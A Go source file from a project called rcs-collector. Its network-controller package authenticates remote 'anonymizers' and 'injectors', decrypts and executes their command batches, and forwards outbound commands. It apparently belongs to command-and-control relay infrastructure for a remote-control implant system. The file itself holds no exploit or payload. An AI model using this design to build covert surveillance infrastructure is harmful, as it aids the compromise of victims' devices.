// SPDX-FileCopyrightText: (c) 2024 The rcs-collector authors
// SPDX-License-Identifier: AGPL-3.0-only

// Package nc implements the network controller core: it authenticates and
// exchanges encrypted command traffic with remote anonymizers and injectors,
// and routes outbound commands through the local forwarding chain.
package nc

import (
	"encoding/json"
	"fmt"
	"net/http"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"gopkg.in/op/go-logging.v1"

	"github.com/azera85/rcs-collector/core/log"
	"github.com/azera85/rcs-collector/nc/commands"
	"github.com/azera85/rcs-collector/nc/config"
	"github.com/azera85/rcs-collector/nc/envelope"
	"github.com/azera85/rcs-collector/nc/registry"
)

// MethodPush is the custom HTTP method used by the local DB to originate
// outbound commands.
const MethodPush = "PUSH"

var (
	incomingRequests = prometheus.NewCounterVec(
		prometheus.CounterOpts{
			Name: "rcs_nc_requests_total",
			Help: "Number of inbound requests dispatched by the controller.",
		},
		[]string{"method"},
	)
	requestErrors = prometheus.NewCounter(
		prometheus.CounterOpts{
			Name: "rcs_nc_request_errors_total",
			Help: "Number of inbound requests that failed.",
		},
	)
)

func init() {
	prometheus.MustRegister(incomingRequests)
	prometheus.MustRegister(requestErrors)
}

// RequestMeta carries the transport metadata the controller needs from the
// host HTTP server.
type RequestMeta struct {
	// Cookie is the raw Cookie header of the request.
	Cookie string

	// ForwardedFor is the X-Forwarded-For header, the observed endpoint
	// of elements without a stored address.
	ForwardedFor string

	// RemoteAddr is the transport-level peer address.
	RemoteAddr string
}

// Result is the controller's reply to one inbound request.
type Result struct {
	Status int
	Body   string

	// SetCookie, when non-empty, is the cookie token to echo back via a
	// Set-Cookie header.
	SetCookie string
}

// Controller handles a single inbound request against an immutable snapshot
// of the element registry. Two controllers may run concurrently; they share
// no mutable state.
type Controller struct {
	cfg *config.Config
	db  DB
	reg *registry.Registry
	log *logging.Logger
	fwd *forwarder
}

// NewController snapshots the element registry from the DB and freezes the
// local forwarding chain.
func NewController(db DB, cfg *config.Config, logBackend *log.Backend) (*Controller, error) {
	anons, err := db.Anonymizers()
	if err != nil {
		return nil, fmt.Errorf("nc: failed to load anonymizers: %v", err)
	}
	injs, err := db.Injectors()
	if err != nil {
		return nil, fmt.Errorf("nc: failed to load injectors: %v", err)
	}
	reg, err := registry.New(anons, injs, cfg.Server.LocalInstance)
	if err != nil {
		return nil, err
	}

	c := &Controller{
		cfg: cfg,
		db:  db,
		reg: reg,
		log: logBackend.GetLogger("nc"),
	}
	timeout := time.Duration(cfg.Debug.ForwardTimeout) * time.Second
	c.fwd = newForwarder(c, timeout)
	return c, nil
}

// Act dispatches one inbound request and returns the reply, or nil for
// methods the controller does not define.
func (c *Controller) Act(method, uri string, body []byte, meta *RequestMeta) *Result {
	incomingRequests.WithLabelValues(method).Inc()

	switch method {
	case http.MethodPost:
		return c.onPost(body, meta)
	case MethodPush:
		status, text := c.fwd.push(body)
		if status != http.StatusOK {
			requestErrors.Inc()
		}
		return &Result{Status: status, Body: text}
	default:
		return nil
	}
}

// onPost handles a peer-initiated encrypted command batch.
func (c *Controller) onPost(body []byte, meta *RequestMeta) *Result {
	element, err := c.reg.BindByCookie(meta.Cookie)
	if err != nil {
		requestErrors.Inc()
		c.log.Errorf("[NC] invalid cookie from %v", meta.RemoteAddr)
		return &Result{Status: http.StatusInternalServerError, Body: "Invalid cookie"}
	}

	var raw json.RawMessage
	if err := envelope.Open(element.Key, string(body), &raw); err != nil {
		requestErrors.Inc()
		c.log.Errorf("[NC] cannot decrypt message from %v: %v", element.Name, err)
		return &Result{Status: http.StatusInternalServerError, Body: err.Error()}
	}
	cmds, err := commands.Normalize(raw)
	if err != nil {
		requestErrors.Inc()
		c.log.Errorf("[NC] malformed message from %v: %v", element.Name, err)
		return &Result{Status: http.StatusInternalServerError, Body: err.Error()}
	}

	ex := &executor{db: c.db, log: c.log, forwardedFor: meta.ForwardedFor}
	responses, err := ex.execute(element, cmds)
	if err != nil {
		requestErrors.Inc()
		c.log.Errorf("[NC] command execution for %v failed: %v", element.Name, err)
		fallback := []*commands.Command{{
			Command: commands.Status,
			Result:  &commands.Result{Status: commands.StatusError, Msg: err.Error()},
		}}
		sealed, sErr := envelope.Seal(element.Key, fallback)
		if sErr != nil {
			return &Result{Status: http.StatusInternalServerError, Body: sErr.Error()}
		}
		return &Result{Status: http.StatusInternalServerError, Body: sealed, SetCookie: element.Cookie}
	}

	sealed, err := envelope.Seal(element.Key, responses)
	if err != nil {
		requestErrors.Inc()
		return &Result{Status: http.StatusInternalServerError, Body: err.Error()}
	}
	return &Result{Status: http.StatusOK, Body: sealed, SetCookie: element.Cookie}
}
